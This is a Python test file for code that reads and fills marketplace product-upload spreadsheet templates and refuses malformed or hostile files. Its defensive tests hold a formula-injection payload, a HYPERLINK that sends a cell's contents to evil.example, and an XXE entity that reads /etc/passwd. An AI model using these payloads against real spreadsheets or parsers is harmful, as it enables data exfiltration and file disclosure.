"""Seller centre templates, read and filled: the reader finds the sheet, key row, first data row,
units and drop-down lists of templates shaped like the public copies (tests/packs/templates.py);
the filler writes values by key in the template's units and list words, and leaves every other
ZIP entry and every row above the data byte for byte as it was; hostile files raise
TemplateError with the right code, never anything else. No app, no database."""

from __future__ import annotations

import io
import json
import re
import zipfile
from dataclasses import replace

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.packs import templates as T
from tests.packs.samples import build, make_pack, open_zip
from tests.properties import examples
from webapp.domain import DomainError
from webapp.packs.builder import PackInputError, PackTemplate, build_pack
from webapp.packs.sheets import channel_sheet, template_rows, template_spec
from webapp.packs.workbooks import (
    FillResult,
    TemplateError,
    TemplateShape,
    category_choices,
    courier_keys,
    fill_template,
    read_template,
)
from webapp.packs.workbooks.package import MAX_FILE_BYTES

SHEET = "xl/worksheets/sheet1.xml"
# openpyxl, used here only to look at results as a spreadsheet would, drops x14 lists on reading
pytestmark = pytest.mark.filterwarnings("ignore:Data Validation extension:UserWarning")
WORKBOOKS = __import__("pathlib").Path(__file__).resolve().parents[2] / "webapp/packs/workbooks"


def read(data: bytes, channel: str = "shopee") -> TemplateShape:
    """Read a template for a channel."""
    return read_template(data, channel)


def sheet_of(data: bytes, name: str = "Template"):
    """Open a workbook's sheet with openpyxl (as the owner's spreadsheet would)."""
    return openpyxl.load_workbook(io.BytesIO(data))[name]


def by_key(data: bytes, shape: TemplateShape, row: int) -> dict[str, object]:
    """Return one row of a filled template as {template key: value}."""
    values = [cell.value for cell in sheet_of(data, shape.sheet)[row]]
    return {column.key: values[column.index - 1] if column.index <= len(values) else None
            for column in shape.columns}


ROW = re.compile(r"<(?:\w+:)?row\b[^>]*?(?:/>|>.*?</(?:\w+:)?row>)", re.S)


def rows_xml(xml: bytes, below: int) -> list[str]:
    """Return the text of every <row> element above row number below, as written."""
    return [match.group(0) for match in ROW.finditer(xml.decode())
            if int(re.search(r'r="(\d+)"', match.group(0)).group(1)) < below]


# --- reading -------------------------------------------------------------------------------------

def test_shopee_basic_template():
    shape = read(T.shopee())
    assert (shape.sheet, shape.key_row, shape.header_row) == ("Template", 1, 3)
    assert shape.guidance_rows == (4, 5, 6) and shape.first_data_row == 7
    assert [column.key for column in shape.columns] == [code.split("|")[0]
                                                        for code, _, _ in T.SHOPEE]
    assert shape.column("ps_category").code == "ps_category|0|0"
    assert {c.key for c in shape.columns if c.required} == {
        "ps_product_name", "ps_product_description", "ps_price", "ps_item_cover_image",
        "ps_weight"}  # "Wajib" in row 4
    assert shape.column("ps_weight").header == "Berat" and shape.column("ps_weight").unit == ""
    assert shape.column("ps_length").unit == ""  # "Panjang": cm is assumed from the data file
    assert shape.unknown_keys == () and shape.notes == ()
    assert category_choices(shape) == T.SHOPEE_CATEGORIES  # x14 list on a hidden sheet
    assert shape.choices(shape.column("ps_dangerous_goods")) == ("No (ID)", "Yes (ID)")
    assert shape.choices(shape.column("channel_id.8001")) == ("Aktif", "Nonaktif")
    assert courier_keys(shape) == [
        ("channel_id.8001", "Same Day"), ("channel_id.8002", "Next Day"),
        ("channel_id.8003", "Reguler (Cashless)"), ("channel_id.8005", "Hemat Kargo"),
        ("channel_id.8007", "Instant"), ("channel_id.8008", "Instant Prioritas")]


def test_an_older_shopee_template_starts_its_data_on_row_6_and_lists_unknown_keys():
    shape = read(T.shopee_old())
    assert shape.first_data_row == 6 and shape.guidance_rows == (4, 5)
    assert shape.unknown_keys == ("ps_size_chart",)
    assert shape.column("ps_maximum_purchase_quantity") is None
    assert shape.notes == ()  # 6 is a first data row Shopee is known to use


@pytest.mark.parametrize(("weight", "note", "unit"), [
    ("Berat (gram)", "", "g"), ("Berat (kg)", "", "kg"), ("Berat", "", ""),
    ("Berat", "Berat paket dalam kg, mis. 0,35", "kg"), ("Berat (gr)", "", "g"),
    ("Berat (kg, e.g. 0.3, 0.6)", "", "kg"), ("Berat", "Dalam gram atau kg", ""),
])
def test_the_weight_unit_comes_from_the_header_or_its_guidance(weight, note, unit):
    assert read(T.shopee(weight=weight, weight_note=note)).column("ps_weight").unit == unit


@pytest.mark.parametrize("order", [T.TIKTOK_T1, T.TIKTOK_T2], ids=["T1", "T2 with gtin"])
def test_tiktok_templates_in_two_column_orders(order):
    shape = read(T.tiktok(order=order), "tiktok_shop")
    assert (shape.sheet, shape.key_row, shape.header_row) == ("Template", 1, 2)
    # T2 leaves row 5 empty: the data starts where its category list begins, row 6
    assert shape.first_data_row == 6
    assert [column.key for column in shape.columns] == list(order)
    assert shape.unknown_keys == ()
    assert shape.column("parcel_weight").unit == "g" and shape.column("parcel_weight").required
    assert category_choices(shape) == T.TIKTOK_CATEGORIES
    assert courier_keys(shape) == []


@pytest.mark.parametrize("headers", [T.TOKOPEDIA_20, T.TOKOPEDIA_22, T.TOKOPEDIA_23],
                         ids=["20", "22", "23"])
def test_tokopedia_templates_of_20_22_and_23_columns(headers):
    shape = read(T.tokopedia(headers), "tokopedia")
    assert (shape.sheet, shape.key_row, shape.header_row) == ("ISI Template Impor Produk", 2, 2)
    assert shape.guidance_rows == (3,) and shape.first_data_row == 4
    assert [column.key for column in shape.columns] == list(headers)
    assert shape.unknown_keys == ()  # every version's spellings are known aliases
    known = {column.key: column.known for column in shape.columns}
    assert known[headers[0]] == "Pesan Error"
    assert shape.column("Foto Produk 1*").key in ("Foto Produk 1*", "Gambar 1*")
    assert shape.column("Kategori Kode*").key in ("Kategori Kode*", "Kode Kategori*")
    assert shape.column("Berat* (Gram)").unit == "g"
    assert {c.key for c in shape.columns if c.required} == {h for h in headers if "*" in h}
    assert category_choices(shape) == ["1745", "1746", "1759"]
    assert shape.choices(shape.column("Kondisi*")) == ("Baru", "Bekas")


def test_the_data_sheet_is_found_by_its_keys_when_its_name_differs():
    rows = {1: [code for code, _, _ in T.SHOPEE], 2: ["basic", T.TOKEN],
            3: [name for _, name, _ in T.SHOPEE], 4: ["Wajib"] * len(T.SHOPEE)}
    data = T.workbook(T.Sheet("Petunjuk", {1: ["Baca dulu", "ps_price"]}),
                      T.Sheet("Lembar Data", rows))
    shape = read(data)
    assert shape.sheet == "Lembar Data" and shape.first_data_row == 5
    assert shape.notes[0].code == "unusual_data_row"  # 5 is not a row Shopee is known to use
    assert "baris 5" in shape.notes[0].message("id")


def test_a_shape_survives_json():
    shape = read(T.shopee(weight="Berat (kg)"))
    stored = json.loads(json.dumps(shape.to_dict()))
    assert TemplateShape.from_dict(stored) == shape
    assert stored["list_sizes"]["'Sheet 2'!$A$1:$A$900"] == 3
    assert stored["columns"][31]["unit"] == "kg"
    with pytest.raises(ValueError, match="version"):
        TemplateShape.from_dict({**stored, "version": 99})


def test_a_prefixed_namespace_reads_and_fills_the_same():
    data = T.shopee(prefix="x")
    shape = read(data)
    assert shape.first_data_row == 7 and len(shape.columns) == len(T.SHOPEE)
    result = fill_template(data, shape, [{"ps_product_name": "Kain", "ps_price": 1000}])
    xml = zipfile.ZipFile(io.BytesIO(result.data)).read(SHEET).decode()
    assert '<x:row r="7"><x:c r="A7" s="1"/>' in xml or '<x:row r="7">' in xml
    assert "<row" not in xml.replace("<x:row", "")  # every element keeps the prefix
    assert by_key(result.data, shape, 7)["ps_product_name"] == "Kain"


def test_the_spec_comes_from_the_sheet_data():
    spec = template_spec("shopee")
    assert spec.keys == "codes" and spec.sheets == ("Template",) and spec.data_rows == (6, 7)
    assert spec.our_key("ps_weight|1|1") == "ps_weight"
    assert template_spec("tokopedia").our_key("Kode Kategori*") == "Kategori Kode*"
    assert template_spec("tiktok_shop").our_key("Package weight(g)") == "parcel_weight"
    assert template_spec("instagram") is None and template_spec("facebook") is None
    with pytest.raises(TemplateError) as refused:
        read_template(T.shopee(), "instagram")
    assert refused.value.code == "unknown_channel"


# --- filling -------------------------------------------------------------------------------------

def test_values_land_by_key_and_nothing_else_changes():
    data = T.shopee(weight="Berat (kg)")
    shape = read(data)
    rows = [{"ps_product_name": "Kain Latohan", "ps_price": 1_250_000, "ps_weight": 0.4,
             "ps_category": T.SHOPEE_CATEGORIES[0], "channel_id.8003": "aktif"},
            {"ps_product_name": "Kemeja", "ps_stock": 0, "ps_sku_short": "007"}]
    result = fill_template(data, shape, rows)
    assert isinstance(result, FillResult) and (result.rows, result.first_row) == (2, 7)
    first, second = by_key(result.data, shape, 7), by_key(result.data, shape, 8)
    assert (first["ps_product_name"], first["ps_price"], first["ps_weight"]) == (
        "Kain Latohan", 1_250_000, 0.4)
    assert first["channel_id.8003"] == "Aktif"  # the list's own spelling
    assert first["ps_category"] == T.SHOPEE_CATEGORIES[0]
    assert (second["ps_stock"], second["ps_sku_short"]) == (0, "007")  # text stays text
    before, after = zipfile.ZipFile(io.BytesIO(data)), zipfile.ZipFile(io.BytesIO(result.data))
    assert after.namelist() == before.namelist()
    for info in before.infolist():
        if info.filename != SHEET:
            twin = after.getinfo(info.filename)
            assert after.read(info.filename) == before.read(info.filename), info.filename
            assert (twin.CRC, twin.compress_size, twin.compress_type, twin.date_time) == (
                info.CRC, info.compress_size, info.compress_type, info.date_time)
    old, new = before.read(SHEET), after.read(SHEET)
    assert rows_xml(new, 7) == rows_xml(old, 7)  # the keys, token, names and guidance
    head = old.decode().split("<sheetData>")[0]
    assert new.decode().split("<sheetData>")[0] == head.replace('ref="A1:AQ6"', 'ref="A1:AQ8"')
    assert new.decode().split("</sheetData>")[1] == old.decode().split("</sheetData>")[1]
    assert b"<f>" not in new and b"<f " not in new


def test_validations_and_other_sheets_survive():
    data = T.shopee()
    shape = read(data)
    result = fill_template(data, shape, [{"ps_product_name": "Kain"}])
    book = openpyxl.load_workbook(io.BytesIO(result.data))
    assert book.sheetnames == ["Template", "Sheet 2", "Pilihan"]
    assert book["Sheet 2"]["A3"].value == T.SHOPEE_CATEGORIES[2]
    assert len(book["Template"].data_validations.dataValidation) == 2
    xml = zipfile.ZipFile(io.BytesIO(result.data)).read(SHEET).decode()
    assert "<x14:dataValidations" in xml and "'Sheet 2'!$A$1:$A$900" in xml
    assert read(result.data) == replace(shape, last_row=7)  # it still reads as the template


def test_text_is_inline_escaped_and_never_a_formula():
    data = T.shopee()
    shape = read(data)
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"klik") <b>&amp;'
    result = fill_template(data, shape, [{"ps_product_name": hostile,
                                          "ps_product_description": "a\r\nb\x00c",
                                          "ps_sku_parent_short": "KMJ_x0041_"}])
    xml = zipfile.ZipFile(io.BytesIO(result.data)).read(SHEET).decode()
    assert 't="inlineStr"' in xml and "<f>" not in xml
    assert "KMJ_x005F_x0041_" in xml  # Excel would read a bare _x0041_ as "A"
    cell = sheet_of(result.data)["B7"]
    assert cell.value == hostile and cell.data_type == "s"
    assert sheet_of(result.data)["C7"].value == "a\nbc"
    before = zipfile.ZipFile(io.BytesIO(data)).read("xl/sharedStrings.xml")
    assert zipfile.ZipFile(io.BytesIO(result.data)).read("xl/sharedStrings.xml") == before


def test_findings_say_what_was_left_blank_and_why():
    data = T.shopee(drop=("ps_weight",), extra=(("ps_new_field|0|0", "Kolom Baru"),))
    shape = read(data)
    result = fill_template(data, shape, [
        {"ps_product_name": "Kain", "ps_weight": 350, "channel_id.8001": "Nyala",
         "ps_category": "999 - Tidak Ada"},
        {"ps_product_name": "Kemeja", "ps_product_description": "Kemeja batik"}])
    codes = [(finding.code, dict(finding.params)) for finding in result.findings]
    assert ("missing_column", {"column": "ps_weight"}) in codes  # a caller's own key
    assert ("not_in_list", {"column": "Same Day", "rows": 1, "value": "Nyala"}) in codes
    assert ("not_in_list", {"column": "Kategori", "rows": 1, "value": "999 - Tidak Ada"}) in codes
    assert ("required_blank", {"column": "Deskripsi Produk", "rows": 1}) in codes
    assert ("required_blank", {"column": "Harga", "rows": 2}) in codes
    assert result.unknown == ("ps_new_field",)
    assert "ps_new_field" in result.blank and "ps_category" in result.blank
    assert result.filled == ("ps_product_name", "ps_product_description")
    assert all(message and "%(" not in message for message in result.messages("en"))


def test_preformatted_rows_keep_their_style_and_old_data_is_cleared():
    data = T.shopee(styled={7: 5, 30: 3}, stale=True)
    shape = read(data)
    result = fill_template(data, shape, [{"ps_product_name": "Kain"}])
    xml = zipfile.ZipFile(io.BytesIO(result.data)).read(SHEET).decode()
    assert '<c r="B7" s="1" t="inlineStr">' in xml  # the template's style for the cell
    assert '<row r="30" spans="1:60"><c r="A30" s="1"/>' in xml  # untouched, as it was
    assert sheet_of(result.data)["B9"].value is None and "Produk lama" not in xml
    assert ("old_values_cleared", {"rows": 1}) in [(f.code, dict(f.params))
                                                   for f in result.findings]


def test_the_same_input_fills_the_same_bytes():
    data = T.tokopedia()
    shape = read(data, "tokopedia")
    rows = [{"Nama Produk*": "Kain", "Harga (Rp)*": 150_000}]
    assert fill_template(data, shape, rows).data == fill_template(data, shape, rows).data


# --- filled from a pack -----------------------------------------------------------------------

TEMPLATES = {"shopee": T.shopee(weight="Berat (kg)"), "tiktok_shop": T.tiktok(order=T.TIKTOK_T2),
             "tokopedia": T.tokopedia(T.TOKOPEDIA_22)}


def pack_with_templates(couriers=("channel_id.8003", "channel_id.8005"), **overrides):
    """The realistic pack, each marketplace with the owner's template and a chosen category."""
    pack = make_pack()
    chosen = {"shopee": T.SHOPEE_CATEGORIES[0], "tiktok_shop": T.TIKTOK_CATEGORIES[0],
              "tokopedia": "1745"}
    products = (replace(pack.products[0], categories=chosen), *pack.products[1:])
    templates = {channel: PackTemplate(data, f"{channel}.xlsx", "",
                                       couriers if channel == "shopee" else ())
                 for channel, data in {**TEMPLATES, **overrides}.items()}
    return replace(pack, products=products, templates=templates)


def test_a_pack_fills_each_template_in_its_units_and_words():
    pack = pack_with_templates()
    shape = read(TEMPLATES["shopee"])
    rows = template_rows(pack, pack.channels[0], shape)
    assert len(rows) == 4  # kain, two kemeja variants, the hostile product
    kain, size_m = rows[0], rows[1]
    assert kain["ps_weight"] == 0.4  # 400 g in the template's kg
    assert (kain["ps_length"], kain["ps_width"], kain["ps_height"]) == (30, 20, 4)
    assert kain["ps_category"] == T.SHOPEE_CATEGORIES[0]
    assert kain["ps_dangerous_goods"] == "No (ID)"
    assert [kain[f"channel_id.{code}"] for code in ("8001", "8003", "8005", "8008")] == [
        "Nonaktif", "Aktif", "Aktif", "Nonaktif"]
    assert (size_m["et_title_variation_1"], size_m["et_title_option_for_variation_1"]) == (
        "Warna", "Coklat")
    assert size_m["ps_weight"] == 0.3 and size_m["ps_length"] is None
    outcome = channel_sheet(pack, pack.channels[0])
    assert outcome.kind == "template" and outcome.file == "shopee-template-terisi.xlsx"
    filled = by_key(outcome.result.data, shape, 7)
    assert (filled["ps_weight"], filled["channel_id.8003"]) == (0.4, "Aktif")


def test_grams_or_no_unit_at_all():
    pack = pack_with_templates(shopee=T.shopee(weight="Berat (gram)"))
    assert template_rows(pack, pack.channels[0], read(T.shopee(weight="Berat (gram)")))[0][
        "ps_weight"] == 400
    pack = pack_with_templates(shopee=T.shopee())
    result = channel_sheet(pack, pack.channels[0]).result
    assert by_key(result.data, read(T.shopee()), 7)["ps_weight"] is None
    assert "unit_unknown" in [finding.code for finding in result.findings]


def test_tiktok_and_tokopedia_rows():
    pack = pack_with_templates()
    tiktok = {channel.id: channel for channel in pack.channels}["tiktok_shop"]
    rows = template_rows(pack, tiktok, read(TEMPLATES["tiktok_shop"], "tiktok_shop"))
    assert rows[0]["parcel_weight"] == 400 and rows[0]["category"] == "600001/Kain Batik"
    assert (rows[1]["property_name_2"], rows[1]["property_value_2"]) == ("Ukuran", "M")
    assert rows[1]["seller_sku"] == "KMJ-M" and "gtin_code" in rows[0]
    tokopedia = {channel.id: channel for channel in pack.channels}["tokopedia"]
    rows = template_rows(pack, tokopedia, read(TEMPLATES["tokopedia"], "tokopedia"))
    assert len(rows) == 4 and rows[1]["Nama Produk*"] == rows[2]["Nama Produk*"]
    assert (rows[0]["Kondisi*"], rows[0]["Status*"], rows[0]["Kategori Kode*"]) == (
        "Baru", "Aktif", "1745")
    assert rows[0]["Berat* (Gram)"] == 400 and rows[0]["Minimum Pemesanan*"] == 1


def test_a_pack_with_templates_holds_them_filled_and_says_so():
    pack = pack_with_templates()
    data, _ = build(pack)
    archive = open_zip(data)
    names = archive.namelist()
    for path in ("shopee/shopee-template-terisi.xlsx",
                 "tiktok_shop/tiktok-shop-template-terisi.xlsx",
                 "tokopedia/tokopedia-template-terisi.xlsx"):
        assert path in names
    assert not any("lembar-bantu" in name for name in names)
    checklist = archive.read("shopee/PERIKSA.txt").decode()
    assert "TEMPLATE ANDA, SUDAH DIISI: shopee-template-terisi.xlsx" in checklist
    assert "diisi 4 baris mulai baris 7" in checklist and "Mass Upload" in checklist
    assert "Kolom yang diisi: Kategori, Nama Produk" in checklist
    assert "Maks. Jumlah Pembelian" in checklist.split("tidak menyimpan datanya")[1]
    assert "tanpa tautan foto publik" in checklist  # photo columns left blank, said once
    assert checklist.count("tanpa tautan foto publik") == 1
    assert "9 Juni 2025" in archive.read("tokopedia/PERIKSA.txt").decode()
    assert "Template Anda, sudah diisi" in archive.read("index.html").decode()
    assert build(pack_with_templates())[0] == data  # reproducible, templates included


def test_a_template_that_cannot_be_read_leaves_the_helper_sheet():
    pack = pack_with_templates(shopee=b"not a spreadsheet")
    data, _ = build(pack)
    archive = open_zip(data)
    assert "shopee/shopee-lembar-bantu.xlsx" in archive.namelist()
    checklist = archive.read("shopee/PERIKSA.txt").decode()
    assert "tidak bisa dibaca (kode: not_xlsx)" in checklist


def test_a_template_must_be_bytes():
    pack = replace(make_pack(), templates={"shopee": PackTemplate("teks", "x.xlsx")})
    with pytest.raises(PackInputError):
        build_pack(pack, io.BytesIO())


# --- hostile files -------------------------------------------------------------------------------

HOSTILE = [
    ("not a zip", lambda: b"hello, this is not a spreadsheet", "not_xlsx"),
    ("empty", lambda: b"", "not_xlsx"),
    ("zip header, then garbage", lambda: b"PK\x03\x04" + b"\x00" * 200, "not_xlsx"),
    ("over 10 MB", lambda: b"PK\x03\x04" + b"\x00" * MAX_FILE_BYTES, "too_large"),
    ("a zip bomb", T.zip_bomb, "unpacked_too_large"),
    ("too many entries", T.many_entries, "unpacked_too_large"),
    ("directory records sharing one part", T.overlapping_entries, "unsupported"),
    ("no key row", T.no_key_row, "no_key_row"),
    ("entity expansion", T.entity_bomb, "unsafe_xml"),
    ("a zip that is no workbook", lambda: zip_of({"word/document.xml": b"<w/>"}), "not_xlsx"),
    ("no sheet", lambda: T.workbook(), "no_sheet"),
]


def zip_of(files: dict[str, bytes]) -> bytes:
    """Return a ZIP of files."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    """Return a template with one part's content replaced (rewritten by zipfile)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    return zip_of({item: content if item == name else source.read(item)
                   for item in source.namelist()})


@pytest.mark.parametrize(("why", "make", "code"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_files_raise_template_error_with_a_code(why, make, code):
    with pytest.raises(TemplateError) as refused:
        read(make())
    assert refused.value.code == code
    assert isinstance(refused.value, DomainError) and refused.value.key == f"template.{code}"


def test_external_entities_and_links_are_never_followed():
    sheet = zipfile.ZipFile(io.BytesIO(T.shopee())).read(SHEET)
    outside = sheet.replace(b"?>", b'?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
                            1).replace(b"<sheetData>", b"<sheetData>&x;", 1)
    with pytest.raises(TemplateError) as refused:
        read(with_part(T.shopee(), SHEET, outside))
    assert refused.value.code == "unsafe_xml"
    linked = T.workbook(T.Sheet("Template", {1: [c for c, _, _ in T.SHOPEE], 2: ["basic"]},
                                lists=[("A3:A9", "[1]Sheet1!$A$1:$A$9")]))
    shape = read(linked)  # the workbook's External relationship is skipped, not fetched
    assert shape.column("ps_category").choices == "[1]Sheet1!$A$1:$A$9"
    assert shape.choices(shape.column("ps_category")) is None
    assert [note.code for note in shape.notes] == ["unusual_data_row", "list_unresolved"]


def test_fill_refuses_a_shape_of_another_file_and_too_many_rows():
    shape = read(T.shopee())
    with pytest.raises(TemplateError) as refused:
        fill_template(T.tokopedia(), replace(shape, sheet_path="xl/worksheets/sheet9.xml"), [])
    assert refused.value.code == "damaged"
    with pytest.raises(TemplateError) as refused:
        fill_template(T.shopee(), shape, [{}] * 10_001)
    assert refused.value.code == "too_many_rows"


@settings(max_examples=examples(60))
@given(st.lists(st.tuples(st.integers(min_value=0), st.integers(min_value=0, max_value=255)),
                min_size=1, max_size=8), st.integers(min_value=0))
def test_a_damaged_file_raises_only_template_error(flips, cut):
    data = bytearray(TEMPLATES["tokopedia"])
    for position, value in flips:
        data[position % len(data)] = value
    data = bytes(data[:max(4, len(data) - cut % 200)])
    try:
        shape = read(data, "tokopedia")
        fill_template(data, shape, [{"Nama Produk*": "Kain", "Harga (Rp)*": 100}])
    except TemplateError:
        pass


@settings(max_examples=examples(60))
@given(st.lists(st.tuples(st.integers(min_value=0), st.sampled_from(list("<>/=\"'&;x:| 7"))),
                min_size=1, max_size=6))
def test_damaged_xml_in_a_sound_zip_raises_only_template_error(edits):
    xml = bytearray(zipfile.ZipFile(io.BytesIO(T.shopee())).read(SHEET))
    for position, char in edits:
        xml[position % len(xml)] = ord(char)
    data = with_part(T.shopee(), SHEET, bytes(xml))
    try:
        shape = read(data)
        result = fill_template(data, shape, [{"ps_product_name": "Kain", "ps_price": 100}])
    except TemplateError:
        return
    assert zipfile.ZipFile(io.BytesIO(result.data)).testzip() is None  # a sound file again


def test_every_refusal_has_its_words():
    from webapp.errors import REFUSALS

    codes = set()
    for path in WORKBOOKS.glob("*.py"):
        codes |= set(re.findall(r'TemplateError\("(\w+)"', path.read_text(encoding="utf-8")))
    assert {"not_xlsx", "too_large", "no_key_row", "damaged", "unsafe_xml"} <= codes
    for code in codes:
        assert f"template.{code}" in REFUSALS, code


def many_lists_on_one_long_sheet(rows: int = 3000, text: str = "") -> bytes:
    """A Shopee template whose every column has its own list on one long sheet, each list a
    little shorter than the one before (forty distinct formulas)."""
    head = {1: [code for code, _, _ in T.SHOPEE], 3: [name for _, name, _ in T.SHOPEE],
            4: ["Wajib" if wajib else "Opsional" for _, _, wajib in T.SHOPEE]}
    lists = [(f"{T.letters(n)}7:{T.letters(n)}1000", f"Big!$A$1:$A${rows - n}")
             for n in range(1, 41)]
    big = T.Sheet("Big", {n: [text or f"Kategori {n % 50}"] for n in range(1, rows + 500)})
    return T.workbook(T.Sheet("Template", head, lists), big)


def test_forty_lists_on_one_long_sheet_read_it_once_and_only_as_far_as_they_reach(monkeypatch):
    from webapp.packs.workbooks import cells as cells_module
    from webapp.packs.workbooks import lists as lists_module

    passes = []
    real = cells_module.read_cells

    def counting(xml, strings, *, keep, last=None):
        found = real(xml, strings, keep=keep, last=last)
        passes.append((last, max(found.rows, default=0)))
        return found

    monkeypatch.setattr(lists_module, "read_cells", counting)
    shape = read(many_lists_on_one_long_sheet(), "shopee")
    assert passes == [(2999, 2999)]  # one pass over Big, stopping at the lowest list's end
    assert shape.choices(shape.columns[0]) == tuple(f"Kategori {n}" for n in (*range(1, 50), 0))


def test_list_values_are_capped_and_each_kept_once():
    shape = read(many_lists_on_one_long_sheet(rows=400, text="x" * 100_000), "shopee")
    assert shape.choices(shape.columns[0]) == ("x" * 200,)
    assert len(json.dumps(shape.to_dict())) < 100_000
